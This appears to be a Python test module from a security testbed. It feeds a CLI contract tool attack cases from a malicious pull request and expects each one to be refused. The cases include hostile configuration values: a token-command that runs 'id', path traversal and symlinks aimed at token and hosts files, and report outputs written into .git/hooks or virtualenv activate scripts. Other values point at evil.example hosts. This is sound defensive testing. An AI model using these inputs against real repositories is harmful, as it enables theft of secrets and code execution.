"""A pull request whose files are checked out: a configuration file, links, and references."""

from __future__ import annotations

import subprocess
from collections.abc import Iterator
from functools import partial
from pathlib import Path

from testbed.outsider.attack import SECRET, Attack, chat_contract, checkout, seen_of

_WHO = "pull request"
_DIFF = ("diff", "chat.yaml", "chat.yaml")
_MOCK = ("mock", "--port", "0", "--tls-cert", "missing.pem", "--tls-key", "missing.pem")
"""It never starts, whatever it accepts."""

_VERIFY = ("verify", "http://127.0.0.1:1/v1")
_CONFIGURATIONS: tuple[tuple[str, tuple[str, ...]], ...] = (
    ("[diff]\nallow-ref-outside = true", ("diff", "chat.yaml", "reference.yaml")),
    *(
        (f"[{table}]\n{option} = {value.replace('FILE', name)}", command)
        for name in ("../home/token.yaml", "../home/hosts.yaml", "elsewhere/hosts.yaml")
        for table, option, value, command in (
            ("mock", "spec", '"FILE"', _MOCK),
            ("mock", "latitude", '"FILE"', _MOCK),
            ("diff", "overlay", '["FILE"]', _DIFF),
            ("diff", "consumers", '["FILE"]', _DIFF),
            ("diff", "severity", '"FILE"', _DIFF),
            ("diff", "waivers", '"FILE"', _DIFF),
            ("verify", "profile", '"FILE"', _VERIFY),
        )
    ),
    ('[verify]\napp = "evil:app"', ("verify",)),
    ('[verify]\ntoken-command = "id"', _VERIFY),
    ('[verify]\nca-bundle = "ca.pem"', _VERIFY),
    ("[verify]\nheader = ['Host: evil.example']", _VERIFY),
    ('[mock]\nhost = "0.0.0.0"', _MOCK),
    ("[mock]\ncors-origin = ['http://evil.example']", _MOCK),
    ('[mock]\nupstream = "http://evil.example/v1"', (*_MOCK, "--upstream-key-env", "KEY")),
    ('[mock]\nstore = "redis://evil.example"', _MOCK),
    ('[diff]\nreport = ["json=elsewhere/report.json"]', _DIFF),
    ('[diff]\nreport = ["json=.git/hooks/post-commit"]', _DIFF),
    ('[diff]\nwaivers = "a\\u0000b"', _DIFF),
    ('[diff]\noverlay-out = ".venv/bin/activate"', _DIFF),
    ('[diff]\nwrite-waivers = "environment/bin/activate"', _DIFF),
    ('[diff]\nreport = ["text=node_modules/x/index.txt"]', _DIFF),
    ('[diff]\nreport = ["text=settings.py"]', _DIFF),
    ('[verify]\nkey-env = "AWS_SECRET_ACCESS_KEY"', _VERIFY),
    ('[verify]\nresume = "run.jsonl"', _VERIFY),
    ('[verify]\nreplay = "report.json"', _VERIFY),
    ("[verify]\nheader = ['X-Original-URL: /admin']", _VERIFY),
    ("[load]\nmaster = true", ("load", "http://127.0.0.1:1/v1")),
    ("[record]\nforward-all = true", ("record", "http://127.0.0.1:1/v1", "--from-har", "missing.har", "--out", "new")),
)
_WRITTEN: tuple[tuple[str, tuple[str, ...]], ...] = (
    ("report.json", (*_DIFF, "--report", "json=report.json")),
    ("change.yaml", (*_DIFF, "--overlay-out", "change.yaml")),
    ("waivers.yaml", (*_DIFF, "--write-waivers", "waivers.yaml")),
    ("profile.json", (*_VERIFY, "--profile-out", "profile.json")),
    ("run.jsonl", (*_VERIFY, "--resume", "run.jsonl")),
    ("catalogue.json", ("fixtures", "new", "greeting", "--fixtures", "elsewhere")),
)
"""Links with the names of output files, each to a file of somebody else."""

_KEYWORDS = (
    "$dynamicRef: ../home/schema.json",
    "$dynamicRef: 'FOLDER/home/schema.json'",
    "$dynamicRef: http://127.0.0.1:1/schema.json",
    "$schema: http://json-schema.org/draft-07/schema#",
)
_LINKS: tuple[tuple[str, tuple[str, ...]], ...] = (
    ("linked.yaml", ("diff", "chat.yaml", "linked.yaml")),
    ("linked.yaml", ("diff", "chat.yaml", "chat.yaml", "--severity", "linked.yaml")),
    ("linked.yaml", ("diff", "chat.yaml", "chat.yaml", "--waivers", "linked.yaml")),
    ("linked.yaml", (*_VERIFY, "--waivers", "linked.yaml")),
    ("linked.yaml", (*_MOCK, "--spec", "linked.yaml")),
    ("linked.har", ("judge", "linked.har")),
    ("consumer.yaml", _DIFF),
    (".chat-contract.toml", _DIFF),
)


def attacks() -> Iterator[Attack]:
    """Yield the attacks; each is refused, and shows nothing of other files."""
    for text, command in _CONFIGURATIONS:
        yield Attack(_WHO, f"configuration {text.partition(chr(10))[2]}", "refused", partial(_configure, text, command))
    for name, command in _LINKS:
        for target in ("token.yaml", "hosts.yaml"):
            told = f"link {name} to {target}, {' '.join(command)}"
            yield Attack(_WHO, told, "refused", partial(_link, name, target, command))
    for name, command in _WRITTEN:
        told = f"link {name} to a file that {' '.join(command)} would overwrite"
        yield Attack(_WHO, told, "refused", partial(_write_through, name, command))
    for keyword in _KEYWORDS:
        yield Attack(_WHO, f"document with {keyword}, for mock", "refused", partial(_mock, keyword))
    yield Attack(_WHO, "tag with the name of the base branch", "refused", _tag)
    yield Attack(_WHO, "reference to another folder", "refused", _refer)


def _configure(text: str, command: tuple[str, ...], folder: Path) -> str:
    repository = checkout(folder)
    _write_reference(repository)
    (repository / "environment").mkdir()
    (repository / "environment/pyvenv.cfg").touch()
    (repository / ".chat-contract.toml").write_text(text, "utf-8")
    seen = seen_of(*chat_contract(repository, *command, KEY="of-the-developer"))
    written = (repository / ".git/hooks").exists() or (folder / "home/report.json").exists()
    return "written" if written else seen


def _link(name: str, target: str, command: tuple[str, ...], folder: Path) -> str:
    repository = checkout(folder)
    (repository / name).symlink_to(f"../home/{target}")
    return seen_of(*chat_contract(repository, *command))


def _write_through(name: str, command: tuple[str, ...], folder: Path) -> str:
    repository = checkout(folder)
    (repository / name).symlink_to("../home/token.yaml")
    seen = seen_of(*chat_contract(repository, *command))
    written = (folder / "home/token.yaml").read_text("utf-8") != SECRET or (folder / "home/conversations").exists()
    return "written" if written else seen


def _mock(keyword: str, folder: Path) -> str:
    repository = checkout(folder)
    text = (repository / "chat.yaml").read_text("utf-8")
    line = f"      {keyword.replace('FOLDER', folder.as_uri())}\n      required: [message]\n"
    (repository / "hostile.yaml").write_text(text.replace("      required: [message]\n", line, 1), "utf-8")
    return seen_of(*chat_contract(repository, *_MOCK, "--spec", "hostile.yaml"))


def _tag(folder: Path) -> str:
    repository = checkout(folder)
    (repository / ".git").rmdir()
    identity = ("-c", "user.name=A", "-c", "user.email=a@example.com", "-c", "commit.gpgsign=false")
    for arguments in (
        ("init", "-q", "-b", "main"),
        ("add", "chat.yaml"),
        ("commit", "-q", "-m", "base"),
        ("update-ref", "refs/remotes/origin/main", "HEAD"),
        ("commit", "-q", "--allow-empty", "-m", "change"),
        ("tag", "origin/main"),
    ):
        subprocess.run(["git", *identity, *arguments], cwd=repository, check=True, capture_output=True)
    return seen_of(*chat_contract(repository, "diff", "git:origin/main:chat.yaml", "chat.yaml"))


def _refer(folder: Path) -> str:
    repository = checkout(folder)
    _write_reference(repository)
    return seen_of(*chat_contract(repository, "diff", "chat.yaml", "reference.yaml"))


def _write_reference(repository: Path) -> None:
    text = (repository / "chat.yaml").read_text("utf-8")
    leak = "        leak: {$ref: ../home/schema.json}\n        user_id:\n"
    (repository / "reference.yaml").write_text(text.replace("        user_id:\n", leak, 1), "utf-8")
